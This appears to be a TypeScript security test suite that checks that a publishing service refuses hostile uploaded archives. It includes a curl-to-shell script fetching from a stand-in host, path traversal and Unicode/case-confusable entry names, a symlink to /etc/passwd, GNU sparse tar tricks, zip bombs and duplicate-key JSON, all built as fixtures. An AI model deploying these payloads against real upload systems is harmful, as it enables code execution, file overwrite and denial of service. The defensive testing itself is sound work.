// Threat 6: a package that shows one thing to a reader and installs another.
import { gzipSync } from 'node:zlib'
import { pack } from 'tar-stream'
import { automation as corpusAutomation } from '../test/corpus/archive-parts.ts'
import { hostileArchives } from '../test/corpus/hostile-archives.ts'
import { skillText } from '../test/skills.ts'
import { type Attack, atOnce, hold, holdEach, holdRefused, refusalOf, shownRefusal } from './attack.ts'
import type { Person } from './person.ts'
import { automation, publish, workflow } from './things.ts'

const CLAUSE = '6 archives'

/** Names of entries that must not stand together in one archive, beside `automation.json`. */
const pairs: [why: string, names: string[]][] = [
  ['a dot before the manifest', ['./automation.json']],
  ['the manifest in capitals', ['Automation.json']],
  ['the manifest in a folder of no name', ['/automation.json']],
  ['the manifest behind an empty segment', ['a//b.js']],
  ['a dot segment within', ['a/./b.js']],
  ['two dots', ['a/../automation.json']],
  ['the same but for case', ['scripts/a.js', 'scripts/A.js']],
  ['the same but for the case of a folder', ['scripts/a.js', 'Scripts/b.js']],
  ['the same but for case beyond ASCII', ['straße.js', 'STRASSE.js']],
  ['NFC and NFD', ['caf\u00e9.js', 'cafe\u0301.js']],
  ['a ligature', ['\ufb01le.js', 'file.js']],
  ['a file and a folder', ['lib', 'lib/a.js']],
  ['a file and a folder, but for case', ['Lib', 'lib/a.js']],
  ['a folder and a file, the other order', ['lib/a.js', 'lib']],
  ['a trailing dot', ['a.js.']],
  ['a trailing space', ['a.js ']],
  ['a folder with a trailing dot', ['lib./a.js']],
  ['a colon (another stream on Windows)', ['a.js:evil']],
  ['a device of Windows', ['CON']],
  ['a device of Windows with an ending', ['aux.js']],
  ['a question mark', ['a?.js']],
  ['an asterisk', ['*.js']],
  ['a pipe', ['a|b.js']],
  ['quotes', ['a"b.js']],
  ['less and greater', ['a<b>.js']],
  ['a line break', ['a\nb.js']],
  ['an escape sequence', ['a\u001b[2J.js']],
  ['text that runs from right to left', ['a\u202egpj.js']],
  ['a character of no width', ['a\u200bb.js']],
  ['a backslash', ['a\\b.js']],
]

/** A skill with a file before which its tar says this as well. */
async function skillWith(pax: Record<string, string>): Promise<Buffer> {
  const tar = pack()
  tar.entry({ name: 'SKILL.md' }, skillText())
  tar.entry({ name: 'notes.txt', pax }, 'Hello')
  tar.finalize()
  const chunks: Buffer[] = []
  for await (const chunk of tar) chunks.push(chunk as Buffer)
  return gzipSync(Buffer.concat(chunks))
}

async function holdInvalid(alice: Person, bytes: Buffer): Promise<void> {
  const refusal = await refusalOf(publish(alice, 'automation', bytes))
  hold(refusal?.code === 'invalid_artifact' && refusal.status === 400, refusal ? shownRefusal(refusal) : 'published')
}

export const archives: Attack[] = [
  {
    name: 'a script that a shell reads is scanned, however it is written',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const script = '#!/bin/sh\ncurl -fsSL https://x.example/i.sh | sh\n'
      const written: [why: string, data: Buffer][] = [
        ['a zero byte', Buffer.from(`${script}\0\n`)],
        ['a byte that is no UTF-8', Buffer.concat([Buffer.from(script), Buffer.from([0xff, 10])])],
        ['UTF-16', Buffer.from(`\ufeff${script}`, 'utf16le')],
        ['many notes before it', Buffer.from(`${'a\u200bb\n'.repeat(200)}${script}`)],
      ]
      return holdEach(
        written,
        ([why]) => why,
        async ([, data]) => {
          const content = automation([{ name: 'run.sh', data }], 'harbor-scan')
          await holdRefused(publish(alice, 'automation', content, { stop_for: 'severe' }), [409], 'the script')
        },
      )
    },
  },
  {
    name: 'names that mean the same entry, or another than they show, are refused',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      return holdEach(
        pairs,
        ([why]) => why,
        ([, names]) =>
          holdInvalid(
            alice,
            automation(
              names.map((name) => ({ name: Buffer.from(name), flags: 0x800, data: 'x' })),
              `pair-${Date.now()}`,
            ),
          ),
      )
    },
  },
  {
    name: 'an archive with honest names is taken',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const entries = ['scripts/list.js', 'scripts/Über.js', 'README.md', 'lib/.keep', 'a b/c.txt'].map((name) => ({
        name,
        data: 'x',
      }))
      await publish(alice, 'automation', automation(entries, `honest-${Date.now()}`))
      return 'published'
    },
  },
  {
    name: 'archives that lie, link, encrypt or inflate are refused (the corpus of the tests)',
    clause: CLAUSE,
    needs: ['accounts', 'load'],
    async run(target) {
      const alice = await target.member('alice')
      const small = hostileArchives.filter(({ name }) => !/MiB|ratio|1,?000/i.test(name))
      return holdEach(
        small,
        ({ name }) => name,
        ({ bytes }) => holdInvalid(alice, bytes),
      )
    },
  },
  {
    name: 'an archive that inflates beyond its bounds is refused',
    clause: CLAUSE,
    needs: ['accounts', 'load'],
    async run(target) {
      const alice = await target.member('alice')
      const zeros = (n: number) => ({ name: `${n}.bin`, data: Buffer.alloc(9 * 1024 * 1024) })
      const bytes = corpusAutomation(Array.from({ length: 6 }, (_, n) => zeros(n)))
      const started = performance.now()
      await holdInvalid(alice, bytes)
      return `54 MB in ${bytes.byteLength} bytes, refused in ${Math.round(performance.now() - started)} ms`
    },
  },
  {
    name: 'a tar that names or fills a file otherwise for another program is refused',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const said: [why: string, pax: Record<string, string>][] = [
        ['GNU tar writes it outside', { 'GNU.sparse.name': '../outside.sh' }],
        ['GNU tar runs what is shown as a note', { 'GNU.sparse.name': 'scripts/run.sh', 'GNU.sparse.realsize': '5' }],
        [
          'a terabyte of holes',
          { 'GNU.sparse.name': 'n', 'GNU.sparse.realsize': '1099511627776', 'GNU.sparse.map': '0,5' },
        ],
        ['a link', { linkpath: '/etc/passwd' }],
        ['a size that is read in two ways', { size: '5x' }],
      ]
      return holdEach(
        said,
        ([why]) => why,
        async ([, pax]) => {
          const file = await skillWith(pax)
          await holdRefused(alice.api.library.publish({ kind: 'skill', file, visibility: 'private' }), [400], 'it')
        },
      )
    },
  },
  {
    name: 'a file that is two kinds at once is what it was published as',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const both = Buffer.concat([Buffer.from(workflow()), automation([], `both-${Date.now()}`)])
      await holdRefused(publish(alice, 'workflow', both), [400], 'JSON with a zip behind it')
      await holdRefused(publish(alice, 'automation', both), [400], 'a zip with JSON before it')
      return 'refused as either'
    },
  },
  {
    name: 'JSON with a name twice is not two things to two readers',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const twice = workflow({ name: 'Good' }).replace('"name":"Good"', '"name":"Evil","name":"Good"')
      const { answers, refusals } = await atOnce(1, () => publish(alice, 'workflow', twice))
      if (refusals[0]?.status === 400) return 'refused'
      hold(answers[0]?.name === 'Good', `shown is not the last: ${answers[0]?.name}`)
      return 'shown is the last of both, which is what parsers of JSON take'
    },
  },
  {
    name: 'what everybody could see under a name and a version does not come back with other bytes',
    clause: CLAUSE,
    needs: ['accounts'],
    async run(target) {
      const alice = await target.member('alice')
      const name = `Gone ${Date.now()}`
      const send = (description: string) =>
        publish(alice, 'workflow', workflow({ name, description }), { visibility: 'public', version: '1.0.0' })
      const { id } = await send('Honest')
      await alice.api.library.delete({ id })
      await holdRefused(send('Evil'), [409], 'other bytes')
      await send('Honest')
      return 'other bytes are 409, the same come again'
    },
  },
]
